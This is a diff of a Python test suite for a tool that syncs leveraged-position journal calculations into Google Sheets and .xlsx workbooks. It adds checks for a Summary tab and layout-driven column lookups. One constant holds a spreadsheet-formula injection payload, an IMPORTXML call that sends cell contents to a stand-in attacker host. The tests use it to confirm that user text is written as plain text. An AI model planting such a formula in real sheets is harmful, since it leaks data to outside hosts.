@@ -18,7 +18,14 @@ import leverage_sheets as sb
 from bench.measure import naive_sync, sample_grids
 from leverage import journal, portfolio
 from leverage.errors import InputError
-from leverage.layout import JOURNAL_EVENTS, REBALANCE_POSITIONS, TEMPLATES, account_row
+from leverage.layout import (
+    JOURNAL_EVENTS,
+    JOURNAL_SUMMARY,
+    REBALANCE_POSITIONS,
+    SUMMARY_TOTALS,
+    TEMPLATES,
+    account_row,
+)
 from leverage_sheets.backend import Grid
 
 INJECTION = '=IMPORTXML("http://attacker.invalid/?q="&A1,"//a")'
@@ -109,22 +116,44 @@ def test_journal_sync_writes_what_the_core_computes(kind: str, fake: FakeSheets,
     book = make(kind, fake, tmp_path, grids)
     report = book.backend and sb.sync(book.backend, "journal")
     assert (report.rows_read, report.rows_computed, report.rows_with_errors) == (45, 45, 0)
-    assert report.cells_written == 45 * 14 and report.changed
     keys = JOURNAL_EVENTS.keys("input")
-    events = [dict(zip(keys, r[:7], strict=True)) for r in grids["Events"][1:]]
-    positions = [dict(zip(TEMPLATES["journal"][0].keys(), r, strict=True))
-                 for r in grids["Positions"][1:]]
+    events = [dict(zip(keys, r[: len(keys)], strict=True)) for r in grids["Events"][1:]]
+    positions = [{k: v for k, v in zip(TEMPLATES["journal"][0].keys(), r, strict=True)
+                  if v is not None} for r in grids["Positions"][1:]]
     rule = journal.AdjustmentRule(max_leverage=10, min_liq_distance=0.05)
     expected = journal.replay(positions, events, rule)
+    summary = journal.summary(positions, events, expected)
+    summary_cells = (len(summary.positions) * len(JOURNAL_SUMMARY.columns)
+                     + len(summary.totals) * len(SUMMARY_TOTALS.columns))
+    assert report.changed
+    assert report.cells_written == 45 * len(JOURNAL_EVENTS.keys("computed")) + summary_cells
     got = _computed(book, "Events", JOURNAL_EVENTS)
     for i, row in enumerate(got):
         for j, k in enumerate(JOURNAL_EVENTS.keys("computed")):
-            want = expected.columns[k][i]
-            if isinstance(want, float):
-                assert (math.isnan(want) and _blank(row[j]) is None) or math.isclose(
-                    row[j], want, rel_tol=1e-14), (i, k)
-            else:
-                assert (_blank(row[j]) or "") == want, (i, k)
+            _check_cell(row[j], expected.columns[k][i], (i, k))
+    table = book.values("Summary")
+    assert table[0][: len(JOURNAL_SUMMARY.columns)] == JOURNAL_SUMMARY.headers
+    for i, want in enumerate(summary.positions, start=1):
+        for j, k in enumerate(JOURNAL_SUMMARY.keys()):
+            _check_cell(table[i][j], want[k], (i, k))
+    first = SUMMARY_TOTALS.first_column - 1
+    for i, want in enumerate(summary.totals, start=1):
+        for j, k in enumerate(SUMMARY_TOTALS.keys()):
+            _check_cell(table[i][first + j], want[k], (i, k))
+
+
+def _check_cell(got: Any, want: Any, where: Any) -> None:
+    """A written cell against the core's value: numbers to the last bit an .xlsx keeps,
+    nan as blank, dates as the serial number both backends store."""
+    from leverage_sheets.backend import serial_date
+
+    want, got = serial_date(want), serial_date(_blank(got))
+    if want is None or (isinstance(want, float) and math.isnan(want)):
+        assert got is None, where
+    elif isinstance(want, int | float) and not isinstance(want, bool):
+        assert math.isclose(got, want, rel_tol=1e-14), where
+    else:
+        assert (got or "") == want, where
 
 
 def test_rebalance_sync_fills_positions_and_account(kind: str, fake: FakeSheets,
@@ -185,9 +214,9 @@ def test_journal_sync_flags_the_new_rules(kind: str, fake: FakeSheets, tmp_path:
     book = make(kind, fake, tmp_path, grids)
     sb.sync(book.backend, "journal")
     keys = JOURNAL_EVENTS.keys("input")
-    events = [dict(zip(keys, r[:7], strict=True)) for r in grids["Events"][1:]]
-    positions = [dict(zip(TEMPLATES["journal"][0].keys(), r, strict=True))
-                 for r in grids["Positions"][1:]]
+    events = [dict(zip(keys, r[: len(keys)], strict=True)) for r in grids["Events"][1:]]
+    positions = [{k: v for k, v in zip(TEMPLATES["journal"][0].keys(), r, strict=True)
+                  if v is not None} for r in grids["Positions"][1:]]
     rule = journal.AdjustmentRule(max_leverage=10, min_liq_distance=0.05, **rules)
     want = journal.replay(positions, events, rule).columns["rule_breaks"]
     col = JOURNAL_EVENTS.keys("computed").index("rule_breaks")
@@ -201,12 +230,12 @@ def test_journal_sync_flags_the_new_rules(kind: str, fake: FakeSheets, tmp_path:
 def test_bad_rows_get_a_message_and_the_others_still_compute(kind: str, fake: FakeSheets,
                                                              tmp_path: Path) -> None:
     grids = sample_grids("journal", 20)
-    grids["Positions"].append(["BAD", "ETHUSDT", "sideways", "linear", 0.005, 0])
+    grids["Positions"].append(["BAD", "ETHUSDT", "sideways", "linear", None, 0.005, 0, None])
     grids["Events"][3][3] = "abc"  # price of an add_margin
-    grids["Events"].append([45_100, "NOPE", "open", 100, 1, 10, ""])
-    grids["Events"].append([45_100, "BAD", "open", 100, 1, 10, ""])
-    grids["Events"].append([None] * 7)  # a blank row in between is skipped
-    grids["Events"].append([45_101, "P1", "explode", 100, 1, 10, ""])
+    grids["Events"].append([45_100, "NOPE", "open", 100, 1, 10, None, ""])
+    grids["Events"].append([45_100, "BAD", "open", 100, 1, 10, None, ""])
+    grids["Events"].append([None] * 8)  # a blank row in between is skipped
+    grids["Events"].append([45_101, "P1", "explode", 100, 1, 10, None, ""])
     book = make(kind, fake, tmp_path, grids)
     report = sb.sync(book.backend, "journal")
     assert report.rows_read == 23 and report.rows_with_errors == 4
@@ -217,46 +246,51 @@ def test_bad_rows_get_a_message_and_the_others_still_compute(kind: str, fake: Fa
     assert status[22] is None
     assert status[23].startswith("event must be one of open")
     assert sum(s is None for s in status) == 20  # 19 good rows + the blank one
-    assert all(isinstance(r[0], float | int) for r in _computed(book, "Events", JOURNAL_EVENTS)[:2])
+    qty = JOURNAL_EVENTS.keys("computed").index("qty_open")
+    assert all(isinstance(r[qty], float | int)
+               for r in _computed(book, "Events", JOURNAL_EVENTS)[:2])
 
 
 def test_user_columns_stay_byte_identical(kind: str, fake: FakeSheets, tmp_path: Path) -> None:
     grids = sample_grids("journal", 30)
-    grids["Events"][5][6] = INJECTION  # reason
-    grids["Events"][6][6] = "  spaces kept  "
-    grids["Events"][7][6] = "'leading quote"
-    grids["Events"][1] += [None] * 14 + ["my own note right of the layout"]
+    reason, width = JOURNAL_EVENTS.index("reason"), len(JOURNAL_EVENTS.columns)
+    grids["Events"][5][reason] = INJECTION
+    grids["Events"][6][reason] = "  spaces kept  "
+    grids["Events"][7][reason] = "'leading quote"
+    grids["Events"][1] += [None] * (width - len(grids["Events"][1])) + [
+        "my own note right of the layout"]
     book = make(kind, fake, tmp_path, grids)
-    before = {t: _inputs(book, t, s) for t, s in zip(
-        ("Positions", "Events", "Rules"), TEMPLATES["journal"], strict=True)}
-    note_before = book.values("Events")[1][21]
+    typed = [s for s in TEMPLATES["journal"] if s.keys("input")]
+    before = {s.title: _inputs(book, s.title, s) for s in typed}
+    note_before = book.values("Events")[1][width]
     sb.sync(book.backend, "journal")
     book.set("Events", 10, 4, "oops")  # a later edit, then a second sync
     before["Events"][9][3] = "oops"
     sb.sync(book.backend, "journal")
-    for t, s in zip(("Positions", "Events", "Rules"), TEMPLATES["journal"], strict=True):
-        assert _inputs(book, t, s) == before[t], t
-    assert book.values("Events")[1][21] == note_before == "my own note right of the layout"
+    for s in typed:
+        assert _inputs(book, s.title, s) == before[s.title], s.title
+    assert book.values("Events")[1][width] == note_before == "my own note right of the layout"
 
 
 def test_user_text_is_never_sent_as_a_formula(kind: str, fake: FakeSheets,
                                              tmp_path: Path) -> None:
     grids = sample_grids("journal", 5)
-    grids["Events"].append([45_100, INJECTION, "open", 100, 1, 10, INJECTION])
+    grids["Events"].append([45_100, INJECTION, "open", 100, 1, 10, None, INJECTION])
     book = make(kind, fake, tmp_path, grids)
     if kind == "google":
         fake.reset_log()
     sb.sync(book.backend, "journal")
-    status = book.values("Events")[6][20]
+    status = book.values("Events")[6][JOURNAL_EVENTS.index("status")]
+    cell = JOURNAL_EVENTS.letter("status") + "7"
     assert INJECTION in status  # echoed in the message, as text
     if kind == "google":
         writes = [r for r in fake.requests if r.method in ("POST", "PUT")]
         assert writes and all(r.body["valueInputOption"] == "RAW" for r in writes)
-        assert not fake.is_formula(book.key, "Events", "U7")
-        assert fake.cell_input_mode(book.key, "Events", "U7") == "RAW"
+        assert not fake.is_formula(book.key, "Events", cell)
+        assert fake.cell_input_mode(book.key, "Events", cell) == "RAW"
     else:
         ws = openpyxl.load_workbook(book.path)["Events"]
-        assert ws["U7"].data_type == "s" and ws["U7"].value == status
+        assert ws[cell].data_type == "s" and ws[cell].value == status
         assert ws["B7"].data_type == "s"  # the trader's own text was never reassigned
 
 
@@ -268,7 +302,7 @@ def test_a_changed_layout_is_refused_and_nothing_written(kind: str, fake: FakeSh
                                                          tmp_path: Path, damage: str) -> None:
     grids = sample_grids("journal", 8)
     if damage == "rename":
-        grids["Events"][0][8] = "My margin"
+        grids["Events"][0][JOURNAL_EVENTS.index("margin")] = "My margin"
     elif damage == "insert":
         for row in grids["Events"]:
             row.insert(3, "note")
@@ -286,7 +320,8 @@ def test_a_changed_layout_is_refused_and_nothing_written(kind: str, fake: FakeSh
         sb.sync(book.backend, "journal")
     msg = str(err.value)
     if damage == "rename":
-        assert "Events!I1 must read 'Margin committed', found 'My margin'" in msg
+        cell = JOURNAL_EVENTS.letter("margin") + "1"
+        assert f"Events!{cell} must read 'Margin committed', found 'My margin'" in msg
     elif damage == "insert":
         assert "Events!D1 must read 'Price', found 'note'" in msg
     else:
@@ -332,7 +367,10 @@ def test_only_changed_rows_are_written(kind: str, fake: FakeSheets, tmp_path: Pa
     sb.sync(book.backend, "journal")
     book.set("Events", 41, 4, 99_999.0)  # the price of the last event (a close)
     report = sb.sync(book.backend, "journal")
-    assert report.changed and report.cells_written == 14
+    # its row, and the Summary rows its close changes: the position's and its currency's
+    assert report.changed and report.cells_written == (
+        len(JOURNAL_EVENTS.keys("computed")) + len(JOURNAL_SUMMARY.columns)
+        + len(SUMMARY_TOTALS.columns))
 
 
 def test_request_counts_against_naive_per_cell_sync(fake: FakeSheets) -> None:
@@ -455,7 +493,8 @@ def test_local_sync_keeps_formats_and_drop_downs(fake: FakeSheets, tmp_path: Pat
     sb.sync(book.backend, "journal")
     ws = openpyxl.load_workbook(book.path)["Events"]
     assert ws.freeze_panes == "A2"
-    assert ws["Q2"].number_format == "0.00%" and ws["H2"].value == 1.0
+    dist, qty = JOURNAL_EVENTS.letter("liq_distance"), JOURNAL_EVENTS.letter("qty_open")
+    assert ws[f"{dist}2"].number_format == "0.00%" and ws[f"{qty}2"].value == 1.0
     lists = {str(dv.sqref): dv.formula1 for dv in ws.data_validations.dataValidation}
     assert lists["C2:C1001"].startswith('"open,add_margin')
 
@@ -467,7 +506,7 @@ def test_init_lays_out_google_tabs_and_is_idempotent(fake: FakeSheets) -> None:
     key = fake.create_spreadsheet("new", sheets={"Sheet1": [["keep me"]]})
     backend = sb.open_google(key, client=make_client(fake))
     sb.init(backend, "rebalance", sample=True)
-    assert backend.sheet_titles() == ["Sheet1", "Account", "Positions"]
+    assert backend.sheet_titles() == ["Instructions", "Sheet1", "Account", "Positions"]
     assert fake.values(key, "Positions")[0] == REBALANCE_POSITIONS.headers
     assert fake.values(key, "Sheet1") == [["keep me"]]
     kinds = {next(iter(r)) for r in fake.batch_requests(key)}
@@ -479,7 +518,7 @@ def test_init_lays_out_google_tabs_and_is_idempotent(fake: FakeSheets) -> None:
     assert report.rows_read > 0 and report.rows_with_errors == 0
     fake.reset_log()
     sb.init(backend, "rebalance", sample=True)  # again: formats refreshed, rows untouched
-    assert backend.sheet_titles() == ["Sheet1", "Account", "Positions"]
+    assert backend.sheet_titles() == ["Instructions", "Sheet1", "Account", "Positions"]
     assert sb.sync(backend, "rebalance").changed is False
 
 
@@ -524,7 +563,8 @@ def test_watch_writes_only_when_inputs_change(kind: str, fake: FakeSheets,
     assert [r.changed for r in reports] == [True, False, True, True]
     assert sleeps == [5] * 4
     assert len(errors) == 1 and "Rules!B2 (max_leverage)" in str(errors[0])
-    assert _computed(book, "Events", JOURNAL_EVENTS)[19][2] == 12_345.0
+    mark = JOURNAL_EVENTS.keys("computed").index("mark_price")
+    assert _computed(book, "Events", JOURNAL_EVENTS)[19][mark] == 12_345.0
     with pytest.raises(InputError, match="interval must be > 0 seconds"):
         sb.watch(book.backend, "journal", 0)
 
@@ -588,7 +628,8 @@ def test_init_highlights_once_on_google(fake: FakeSheets) -> None:
     assert any('INDIRECT("Rules!B8")' in f and dist in f for f in formulas), formulas
     protected = sum("addProtectedRange" in r for r in fake.batch_requests(key))
     sb.init(backend, "journal")  # again: nothing stacked
-    assert len(fake.conditional_formats(key, "Events")) == len(rules) == 3
+    assert len(fake.conditional_formats(key, "Events")) == len(rules) == len(
+        JOURNAL_EVENTS.highlights)
     assert sum("addProtectedRange" in r for r in fake.batch_requests(key)) == protected
 
 
@@ -600,7 +641,7 @@ def test_init_highlights_once_in_a_local_workbook(tmp_path: Path) -> None:
         sb.init(sb.open_local(path), "journal", sample=True)
     ws = openpyxl.load_workbook(path)["Events"]
     rules = [(str(cf.sqref), r.formula[0]) for cf in ws.conditional_formatting for r in cf.rules]
-    assert len(rules) == 3
+    assert len(rules) == len(JOURNAL_EVENTS.highlights)
     d = JOURNAL_EVENTS.letter("liq_distance")
     assert (f"{d}2:{d}1001", f"AND(ISNUMBER({d}2),ISNUMBER(Rules!$B$8),{d}2<Rules!$B$8)") in rules
 
